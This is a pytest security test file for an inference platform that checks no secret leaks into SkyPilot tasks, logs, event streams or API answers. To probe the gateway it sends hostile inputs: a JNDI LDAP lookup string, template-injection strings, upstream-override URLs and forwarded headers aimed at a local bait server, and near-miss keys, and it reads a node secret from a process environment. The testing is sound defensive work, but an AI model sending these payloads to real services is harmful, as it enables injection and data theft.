"""No secret reaches a service's log, a node's log, an event, an answer or a SkyPilot task."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import sky
import yaml
from chaos_harness import FIGURES, Deployed, Scenario, deploy
from cic_common.bus import Bus
from cic_common.events import NodeSpec
from cic_common.streams import STREAMS
from cic_provisioner.adapters.skypilot import SkyPilotBackend
from cic_provisioner.domain.tasks import AgentInstall
from conftest import Running
from nats.js.errors import NotFoundError
from test_security_routes import Tally, openai_error

pytestmark = pytest.mark.chaos

MODEL = "security-secrets-model"
HELLO = [{"role": "user", "content": "Tell me about spot GPUs"}]
TEMPLATES = "{{7*7}} ${7*7} {% print(7*7) %} <%= 7*7 %> #{7*7}"
URL_FIELDS = ("api_base", "base_url", "endpoint", "url", "upstream", "api_url", "callback_url")
COUNTS = (("max_tokens", "-1"), ("max_tokens", "NaN"), ("max_tokens", '"8"'),
          ("max_completion_tokens", "1e400"), ("n", "true"), ("n", "1.5"))  # fmt: skip


def test_a_rendered_skypilot_task_carries_no_secret() -> None:
    node_secret, nats_password = "n0de5ecret" * 4, "nat5pa55word"
    backend = SkyPilotBackend(nats_url=f"nats://cic:{nats_password}@cp.example:4222",
                              install=AgentInstall())  # fmt: skip
    spec = NodeSpec(model="meta-llama/Llama-3.1-8B", engine="vllm", backend="skypilot",
                    accelerator="H100:1", use_spot=True, infra="aws/us-east-1")  # fmt: skip
    rendered = backend.render("n0123456789ab", spec, node_secret)  # as the provisioner does
    task = sky.Task.from_yaml_config({**rendered.config, "secrets": rendered.secrets})
    shown = {  # the task file, and the task as SkyPilot keeps and prints it
        "task YAML": yaml.safe_dump(rendered.config),
        "SkyPilot's YAML": yaml.safe_dump(task.to_yaml_config(use_user_specified_yaml=True)),
        "task": repr(task),
        "envs": json.dumps(task.envs),
    }
    secrets = {"node secret": node_secret, "NATS password": nats_password}
    leaked = [(where, name) for where, text in shown.items()
              for name, secret in secrets.items() if secret in text]  # fmt: skip
    FIGURES.record(Scenario("security: SkyPilot task", notes=f"{len(leaked)} secrets shown"))
    assert leaked == []
    # The node still gets both, as SkyPilot secrets: its environment, never a file.
    given = {name: value.get_secret_value() for name, value in task.secrets.items()}
    assert given["CIC_NODE_SECRET"] == node_secret
    assert nats_password in given["CIC_NATS_URL"]


@contextlib.asynccontextmanager
async def bait() -> AsyncIterator[tuple[str, list[str]]]:
    """An HTTP server that nothing may ever call: its address, and each connection made."""
    calls: list[str] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        calls.append("connected")
        with contextlib.suppress(ConnectionError):
            calls[-1] = (await reader.read(4096)).decode(errors="replace") or "connected"
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    try:
        yield f"127.0.0.1:{server.sockets[0].getsockname()[1]}", calls
    finally:
        server.close()
        await server.wait_closed()


def node_secret(state_dir: Path, node_id: str) -> str:
    """The secret the provisioner handed a node, read where the node has it: the
    environment of its agent (see docs/events.md, "Signed node events")."""
    pid = json.loads((state_dir / "nodes" / node_id / "meta.json").read_text())["pid"]
    for entry in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0"):
        name, _, value = entry.decode(errors="replace").partition("=")
        if name == "CIC_NODE_SECRET":
            return value
    raise AssertionError(f"node {node_id} has no CIC_NODE_SECRET")


async def stream_messages(bus: Bus) -> list[bytes]:
    """Every message the streams hold, headers and body, read back one by one."""
    found = []
    for spec in STREAMS:
        state = (await bus.js.stream_info(spec.name)).state
        for seq in range(state.first_seq, state.last_seq + 1):
            with contextlib.suppress(NotFoundError):  # aged out or deleted meanwhile
                msg = await bus.js.get_msg(spec.name, seq)
                found.append(json.dumps(msg.headers).encode() + b"\n" + (msg.data or b""))
    return found


async def hostile_requests(
    http: httpx.AsyncClient, deployed: Deployed, admin_key: str, bait: str, tally: Tally
) -> None:
    """What a hostile (or careless) caller sends, each answer judged in ``tally``; what
    should be served must be served by the deployment's own replica."""
    user = {"Authorization": f"Bearer {deployed.key}"}
    admin = {"Authorization": f"Bearer {admin_key}"}
    nodes = await http.get("/admin/nodes", params={"deployment_id": deployed.deployment_id},
                           headers=admin)  # fmt: skip
    replicas = [n["id"] for n in nodes.json()["data"]]

    async def send(what: str, method: str, path: str, want: int, **kw: Any) -> httpx.Response:
        answer = await http.request(method, path, **kw)
        proxied = want == 200 and path.startswith("/v1/")
        served = not proxied or answer.headers.get("x-cic-replica") in replicas
        tally.check(what, answer.status_code, answer.content,
                    answer.status_code == want and served)  # fmt: skip
        return answer

    chat = {"model": deployed.model, "messages": HELLO, "max_tokens": 8}
    urls = {field: f"http://{bait}/v1" for field in URL_FIELDS}
    forwarded = {"X-Forwarded-Host": bait, "X-Forwarded-Proto": "http",
                 "Forwarded": f"host={bait}", "X-Original-URL": f"http://{bait}/",
                 "X-Rewrite-URL": f"http://{bait}/", "X-Cic-Replica": bait,
                 "Host": bait}  # fmt: skip
    for path, body in (("/v1/chat/completions", chat),
                       ("/v1/chat/completions", {**chat, "stream": True}),
                       ("/v1/completions", {"model": deployed.model, "prompt": "hi"}),
                       ("/v1/embeddings", {"model": deployed.model, "input": "hi"})):  # fmt: skip
        await send(f"a completion on {path}", "POST", path, 200, json=body, headers=user)
        # The upstream is the gateway's to choose: a URL in the body or headers is ignored.
        await send(f"URLs in {path}", "POST", path, 200, json={**body, **urls},
                   headers={**user, **forwarded})  # fmt: skip
    jndi = f"${{jndi:ldap://{bait}/a}}"
    prompt = [{"role": "user", "content": f"{TEMPLATES} {jndi}"}]
    await send("templates in a prompt", "POST", "/v1/chat/completions", 200,
               json={**chat, "messages": prompt}, headers=user)  # fmt: skip
    unknown = await send("templates as the model", "POST", "/v1/chat/completions", 404,
                         json={**chat, "model": "{{7*7}}"}, headers=user)  # fmt: skip
    assert "'{{7*7}}'" in unknown.json()["error"]["message"]  # named as sent, not evaluated
    named = await send("templates in a key name", "POST", "/admin/keys", 201,
                       json={"name": f"{TEMPLATES} {jndi}"}, headers=admin)  # fmt: skip
    assert named.json()["name"] == f"{TEMPLATES} {jndi}"
    modelled = await send("JNDI as a model", "POST", "/admin/deployments", 201,
                          json={"model": jndi, "replicas": 0}, headers=admin)  # fmt: skip
    assert modelled.json()["model"] == jndi
    await send("templates as a name", "POST", "/admin/deployments", 400,
               json={"model": "m", "name": "{{7*7}}"}, headers=admin)  # fmt: skip
    await send("an endpoint for a deployment", "POST", "/admin/deployments", 400,
               json={"model": "m", "endpoint": f"http://{bait}"}, headers=admin)  # fmt: skip
    await send("templates as an id", "GET", "/admin/deployments/{{7*7}}", 400, headers=admin)
    await send("templates as a GPU", "GET", "/admin/prices?gpu={{7*7}}", 400, headers=admin)
    for name, value in COUNTS:
        content = json.dumps(chat)[:-1] + f', "{name}": {value}}}'
        answer = await send(f"{name}={value}", "POST", "/v1/chat/completions", 400,
                            content=content, headers=user)  # fmt: skip
        assert (openai_error(answer.content) or {}).get("param") == name
    # Keys that nearly match: refused, and neither answered with nor (see the caller) logged.
    prefix, secret = deployed.key.split("-")[1], deployed.key.split("-", 2)[2]
    for near in (deployed.key + "x", secret, f"cic-{prefix}-{admin_key.split('-', 2)[2]}"):
        for path in ("/v1/chat/completions", "/admin/keys"):
            await send(f"a near miss on {path}", "POST", path, 401, json=chat,
                       headers={"Authorization": f"Bearer {near}"})  # fmt: skip
    shown = ("/admin/nodes", f"/admin/nodes/{replicas[0]}/events", "/admin/keys",
             "/admin/deployments", "/admin/usage")  # fmt: skip
    for path in shown:  # what an admin is shown
        await send(f"an admin's {path}", "GET", path, 200, headers=admin)


async def test_a_driven_platform_logs_publishes_and_answers_no_secret(
    running: Running, bus: Bus
) -> None:
    admin_key = running.admin.headers["Authorization"].removeprefix("Bearer ")
    state_dir = running.platform.state_dir
    async with bait() as (address, calls):
        deployed = await deploy(running, MODEL, replicas=1)
        nodes = [p.name for p in (state_dir / "nodes").iterdir()]
        named = {"admin key": admin_key, "admin secret": admin_key.split("-", 2)[2],
                 "user secret": deployed.key.split("-", 2)[2]}  # fmt: skip
        named |= {f"secret of {node}": node_secret(state_dir, node) for node in nodes}
        tally = Tally("platform driven with hostile input", named)
        async with httpx.AsyncClient(base_url=running.base_url, timeout=30) as http:
            await hostile_requests(http, deployed, admin_key, address, tally)
        # Stopped, every service has written all it will (nodes run on, and log on).
        running.platform.stop()
    files = {p: p.read_bytes() for p in state_dir.rglob("*") if p.is_file()}
    messages = await stream_messages(bus)
    places = [(str(p.relative_to(state_dir)), text) for p, text in files.items()]
    places += [(f"stream message {i}", m) for i, m in enumerate(messages)]
    hits = [(where, name) for where, text in places for name, secret in named.items()
            if secret.encode() in text]  # fmt: skip
    tally.conclude(f"URLs, templates, counts, near-miss keys; {len(hits)} secrets in "
                   f"{len(files)} files and {len(messages)} stream messages; "
                   f"bait called {len(calls)} times")  # fmt: skip
    assert calls == []
    assert hits == []
    # The search looked where the platform writes: the node is in its logs and events.
    logs = b"".join(text for path, text in files.items() if path.suffix == ".log")
    assert nodes[0].encode() in logs
    assert any(nodes[0].encode() in m for m in messages)
    assert any(path.name == "agent.log" and text for path, text in files.items())
